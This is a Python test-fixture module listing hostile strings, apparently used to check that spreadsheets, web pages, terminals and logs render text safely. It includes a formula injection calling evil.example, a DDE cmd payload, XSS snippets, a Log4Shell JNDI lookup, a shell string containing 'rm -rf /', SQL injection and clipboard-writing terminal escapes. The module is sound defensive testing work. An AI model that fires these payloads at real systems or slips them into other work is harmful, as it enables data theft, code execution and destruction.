"""Texts that want to be more than text: what spreadsheets, pages, terminals and logs could fall for.

Each holds a word of its own that a person must still be able to read wherever the text is shown.
"""

from __future__ import annotations

from typing import Final

FORMULAS: Final = (
    '=IMPORTXML("https://evil.example/zq01","//a")',
    '=HYPERLINK("https://evil.example","zq02 click")',
    "+cmd|' /C zq03'!A0",
    "@ABS(1+1) zq04",
    "-2+3 zq05",
    "'zq06 with an apostrophe",
    "\t=1+1 zq07",
    "\n=1+1 zq08",
    "\r=1+1 zq09",
    "\uff1dIMPORTXML zq10",
)
MARKS: Final = (
    "zq20 tab\tand line\nand return\rand both\r\nend",
    "zq21 z\u200be\u200br\u200bo\ufeff width\u2060",
    "zq22 \u202etxet desrever\u202c and \u2066isolated\u2069 \u200fmark",
    "zq23 Z" + "\u0300\u0301\u0302\u0303" * 200 + "algo",
    "zq24 " + "long " * 12_000,
    "zq25 family \U0001f468\u200d\U0001f469\u200d\U0001f467 and flag \U0001f1e8\U0001f1ed",
    "zq26 \u05d4\u05ea\u05d5\u05db\u05e0\u05d9\u05ea \u05e9\u05dc\u05e0\u05d5 25%",
    "zq27 \u062e\u0637\u0629 \u0627\u0644\u0641\u0631\u064a\u0642 2024",
    "zq28 separators\u2028and\u2029and\x85end",
)
MARKUP: Final = (
    "<script>alert('zq30')</script>",
    '"><img src=x onerror=alert(1)> zq31',
    "</textarea></script><svg/onload=alert(1)> zq32",
    "[zq33](javascript:alert(1)) ![](data:text/html,<b>)",
    "| zq34 | a | b |",
    "```zq35``` `code` **bold** _it_ {{7*7}} ${7*7} #{7*7}",
    "${jndi:ldap://evil.example/zq36}",
    "zq37 %00 %0a %n%s \\x00 \\u0000",
    "https://evil.example/zq38/" + "a" * 3_000,
    "javascript:alert('zq39')",
    "data:text/html,<script>zq40</script>",
    "--help zq41; rm -rf / && $(zq41) `zq41`",
    "'; DROP TABLE plans; -- zq42",
)
ESCAPES: Final = (
    "\x1b[31mzq50 red\x1b[0m\x1b[2J\x1b[1;1H",
    "\x1b]8;;https://evil.example\x1b\\zq51 link\x1b]8;;\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07zq52 clipboard",
    "\x1b]0;title\x07zq53",
    "\x1bPq#0;2\x1b\\zq54\x08\x08\x08\x07",
    "zq55\x9b31m eight bits \x9d0;t\x9c",
    "zq56 nul\x00 del\x7f end",
    "\x1b]52;never ended zq57",
)
ALL: Final = (*FORMULAS, *MARKS, *MARKUP, *ESCAPES)
LONE: Final = "zq60 \ud800 alone \udfff"
"""No JSON that is sent holds it in itself; one that was saved may, as an escape."""
